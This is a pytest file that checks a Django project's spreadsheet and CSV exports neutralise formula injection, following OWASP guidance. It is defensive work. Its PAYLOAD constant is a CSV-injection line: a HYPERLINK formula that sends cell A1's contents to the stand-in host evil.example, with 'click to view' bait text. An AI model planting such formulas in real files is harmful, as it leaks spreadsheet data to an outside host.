"""Finding 4 of issue 12: no export writes a live formula (OWASP CSV injection guidance)."""

from __future__ import annotations

import datetime as dt
import io

import pytest
from openpyxl import load_workbook

from core.spreadsheets import neutralise, restored

PAYLOAD = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'


@pytest.mark.parametrize("text", [PAYLOAD, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_formula_text_is_written_as_text(text):
    assert neutralise(text) == "'" + text
    assert restored(neutralise(text)) == text


@pytest.mark.parametrize("value", ["江滨区市场监督管理局", -3, 2.5, None, "'quoted"])
def test_other_cells_are_left_alone(value):
    assert neutralise(value) == value


def _cells(content: bytes) -> list:
    book = load_workbook(io.BytesIO(content))
    return [cell for sheet in book for row in sheet.iter_rows() for cell in row]


def assert_no_formula(content: bytes) -> None:
    cells = _cells(content)
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert "'" + PAYLOAD in [c.value for c in cells]


@pytest.mark.django_db
@pytest.mark.parametrize("file_format", ["xlsx", "csv"])
def test_the_catalogue_export(demo, file_format):
    from designer.catalogue import HEADERS, _read, export_catalogue
    from designer.models import ApprovalItem
    from designer.selectors import items_for

    item = ApprovalItem.objects.get(code="JB-SCJG-XK-0001")
    ApprovalItem.objects.filter(pk=item.pk).update(definition={**item.definition, "name": PAYLOAD}, name=PAYLOAD)
    content = export_catalogue(items_for(demo.legal), file_format=file_format)
    if file_format == "xlsx":
        assert_no_formula(content)
    else:
        assert f"'{PAYLOAD}".replace('"', '""') in content.decode("utf-8-sig")
    rows = _read(content, f"catalogue.{file_format}").dict
    assert HEADERS[0] in rows[0]


def test_the_performance_export():
    from supervision.performance import Row, to_xlsx

    assert_no_formula(to_xlsx({"department": [Row(key="JB-X", name=PAYLOAD, score=1.0)]}, title="绩效"))


def test_the_holiday_schedule_template():
    from workdays.models import SpecialDay
    from workdays.spreadsheet import DayEntry, parse_schedule, schedule_template

    content = schedule_template([DayEntry(dt.date(2026, 10, 1), SpecialDay.Kind.HOLIDAY, PAYLOAD)])
    assert_no_formula(content)
    assert parse_schedule(content, filename="s.xlsx", year=2026)[0].name == PAYLOAD  # read back as written


@pytest.mark.django_db
def test_the_admin_department_export(demo):
    from accounts.admin import DepartmentResource
    from accounts.models import Department

    Department.objects.filter(code="JB-SCJG").update(name=PAYLOAD)
    dataset = DepartmentResource().export()
    assert "'" + PAYLOAD in [cell for row in dataset for cell in row]
    assert_no_formula(dataset.export("xlsx"))
